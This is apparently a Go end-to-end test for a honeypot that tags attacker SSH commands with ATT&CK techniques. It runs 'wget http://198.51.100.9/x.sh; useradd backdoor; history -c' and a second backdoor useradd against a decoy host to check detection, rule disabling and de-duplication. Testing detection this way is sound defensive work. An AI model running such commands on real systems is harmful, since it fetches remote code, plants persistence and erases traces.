package node_test

import (
	"context"
	"encoding/json"
	"net/http"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/nats-io/nats.go"
	"golang.org/x/crypto/ssh"

	"github.com/decnet-go/decnet/internal/event"
	"github.com/decnet-go/decnet/internal/store"
	"github.com/decnet-go/decnet/internal/testkit"
)

type techniqueRow struct {
	TechniqueID    string `json:"technique_id"`
	SubTechniqueID string `json:"sub_technique_id"`
	Count          int    `json:"count"`
}

type tagRow struct {
	store.Tag
	TechniqueName string `json:"technique_name"`
}

// sshRun logs in to a decky with the persona's weak root password and runs
// one command line in an exec session, as a bot would.
func sshRun(t *testing.T, s *testkit.System, line string) string {
	t.Helper()
	return sshRunOn(t, s, "decky-01", s.Addr("decky-01", "ssh"), line)
}

// sshRunOn logs in as root on decky's ssh service at addr and runs line.
func sshRunOn(t *testing.T, s *testkit.System, decky, addr, line string) string {
	t.Helper()
	root, _ := s.Persona(decky).Account("root")
	cfg := &ssh.ClientConfig{User: "root", Auth: []ssh.AuthMethod{ssh.Password(root.Password)},
		HostKeyCallback: ssh.InsecureIgnoreHostKey(), Timeout: 10 * time.Second}
	c, err := ssh.Dial("tcp", addr, cfg)
	if err != nil {
		t.Fatalf("ssh dial: %v", err)
	}
	defer c.Close()
	sess, err := c.NewSession()
	if err != nil {
		t.Fatalf("ssh session: %v", err)
	}
	defer sess.Close()
	out, _ := sess.CombinedOutput(line) // the shell's exit status is the last command's
	return string(out)
}

func techniques(s *testkit.System, attacker string) map[string]int {
	var rows []techniqueRow
	if s.Get("/api/v1/ttp/by-attacker/"+attacker, &rows) != http.StatusOK {
		return nil
	}
	m := map[string]int{}
	for _, r := range rows {
		id := r.TechniqueID
		if r.SubTechniqueID != "" {
			id = r.SubTechniqueID
		}
		m[id] += r.Count
	}
	return m
}

// TestTTPTaggingEndToEnd: an ssh session that downloads a file with wget,
// adds a user and clears the history yields T1105, T1136.001 and T1070.003
// with evidence on the attacker's TTP rollup and in its Navigator layer; a
// disabled rule tags nothing new.
func TestTTPTaggingEndToEnd(t *testing.T) {
	s := testkit.Start(t)
	s.Login()
	out := sshRun(t, s, "wget http://198.51.100.9/x.sh; useradd backdoor; history -c")
	t.Logf("shell output: %q", out)

	var attacker string
	want := []string{"T1105", "T1136.001", "T1070.003"}
	var got map[string]int
	s.Eventually(20*time.Second, "T1105, T1136.001 and T1070.003 on the attacker", func() bool {
		d, ok := attackerWith(s, "ssh")
		if !ok {
			return false
		}
		attacker = d.UUID
		got = techniques(s, attacker)
		for _, w := range want {
			if got[w] == 0 {
				return false
			}
		}
		return true
	})
	t.Logf("techniques: %v", got)

	// Evidence: the tag of T1136.001 quotes the command.
	var tags []tagRow
	if code := s.Get("/api/v1/ttp/tags/by-attacker/"+attacker+"/T1136?sub_technique_id=T1136.001", &tags); code != http.StatusOK || len(tags) == 0 {
		t.Fatalf("GET tags: %d %+v", code, tags)
	}
	var ev map[string]any
	if err := json.Unmarshal(tags[0].Evidence, &ev); err != nil {
		t.Fatal(err)
	}
	if cmd, _ := ev["command"].(string); !strings.Contains(cmd, "useradd backdoor") || tags[0].RuleID == "" || tags[0].TechniqueName == "" {
		t.Errorf("T1136.001 tag = %+v, evidence %v", tags[0], ev)
	}
	if code := s.Get("/api/v1/ttp/tags/by-nobody/"+attacker+"/T1136", nil); code != http.StatusUnprocessableEntity {
		t.Errorf("unknown scope: %d, want 422", code)
	}
	if code := s.Get("/api/v1/ttp/tags/by-attacker/00000000-0000-0000-0000-000000000000/T1136", nil); code != http.StatusNotFound {
		t.Errorf("unknown attacker: %d, want 404", code)
	}

	// The attacker's Navigator layer carries the three techniques.
	var layer struct {
		Techniques []struct {
			TechniqueID string `json:"techniqueID"`
			Score       int    `json:"score"`
		} `json:"techniques"`
	}
	if code := s.Get("/api/v1/ttp/export/navigator/attacker/"+attacker, &layer); code != http.StatusOK {
		t.Fatalf("navigator: %d", code)
	}
	var inLayer []string
	for _, x := range layer.Techniques {
		inLayer = append(inLayer, x.TechniqueID)
	}
	for _, w := range want {
		if !slices.Contains(inLayer, w) {
			t.Errorf("navigator layer %v lacks %s", inLayer, w)
		}
	}
	for _, path := range []string{"/api/v1/ttp/export/stix/attacker/" + attacker, "/api/v1/ttp/export/misp/attacker/" + attacker,
		"/api/v1/ttp/export/stix", "/api/v1/ttp/techniques"} {
		if code := s.Get(path, nil); code != http.StatusOK {
			t.Errorf("GET %s: %d", path, code)
		}
	}

	// Disable the useradd rule: a new useradd tags nothing, while the
	// history rule (still enabled) shows the worker saw the command.
	var rules []struct {
		RuleID     string   `json:"rule_id"`
		Techniques []string `json:"techniques"`
	}
	if s.Get("/api/v1/ttp/rules", &rules) != http.StatusOK {
		t.Fatal("GET rules")
	}
	useradd := ""
	for _, r := range rules {
		if slices.Contains(r.Techniques, "T1136.001") && useradd == "" {
			useradd = r.RuleID
		}
	}
	if code := s.Do("POST", "/api/v1/ttp/rules/"+useradd+"/state", map[string]any{"state": 7}, nil); code != http.StatusBadRequest {
		t.Errorf("malformed state body: %d, want 400", code)
	}
	if code := s.Do("POST", "/api/v1/ttp/rules/"+useradd+"/state", map[string]any{"state": "disabled", "reason": "test"}, nil); code != http.StatusOK {
		t.Fatalf("disable %s: %d", useradd, code)
	}
	time.Sleep(200 * time.Millisecond) // the state announcement reaches the worker
	before := got
	sshRun(t, s, "useradd backdoor2; history -c")
	s.Eventually(20*time.Second, "the second history -c tagged", func() bool {
		got = techniques(s, attacker)
		return got["T1070.003"] > before["T1070.003"]
	})
	if got["T1136.001"] != before["T1136.001"] {
		t.Errorf("disabled rule %s still tagged: T1136.001 %d → %d", useradd, before["T1136.001"], got["T1136.001"])
	}
	if code := s.Do("DELETE", "/api/v1/ttp/rules/"+useradd+"/state", nil, nil); code != http.StatusOK {
		t.Errorf("revert %s: %d", useradd, code)
	}

	// Loop prevention: the same event delivered twice (the second time
	// inside another message) is one row and one ttp.tagged.
	tagged := make(chan *nats.Msg, 16)
	sub, err := s.Node.Bus.Conn().ChanSubscribe("ttp.tagged", tagged)
	if err != nil {
		t.Fatal(err)
	}
	defer sub.Unsubscribe()
	a, _ := attackerWith(s, "ssh")
	re := event.Event{ID: "redelivered-1", Time: time.Now().UTC(), Decky: "decky-01", Service: "ssh", Type: event.TypeCommand,
		SrcIP: a.IP, Session: "loop-test", Fields: map[string]any{"command": "crontab -l"}}
	other := re
	other.ID, other.Fields = "redelivered-0", map[string]any{"command": "ls"}
	ctx := context.Background()
	if err := s.Node.Bus.Publish(ctx, re); err != nil {
		t.Fatal(err)
	}
	if err := s.Node.Bus.Publish(ctx, other, re); err != nil {
		t.Fatal(err)
	}
	s.Eventually(10*time.Second, "both messages tagged", func() bool {
		p, err := s.Node.Bus.Pending(ctx, "ttp")
		return err == nil && p == 0 && techniques(s, attacker)["T1053.003"] > 0
	})
	time.Sleep(200 * time.Millisecond)
	if n := techniques(s, attacker)["T1053.003"]; n != 1 {
		t.Errorf("T1053.003 rows = %d, want 1", n)
	}
	msgs := 0
	for len(tagged) > 0 {
		m := <-tagged
		if strings.Contains(string(m.Data), `"session_id":"loop-test"`) {
			msgs++
		}
	}
	if msgs != 1 {
		t.Errorf("ttp.tagged for the redelivered event: %d messages, want 1", msgs)
	}
}
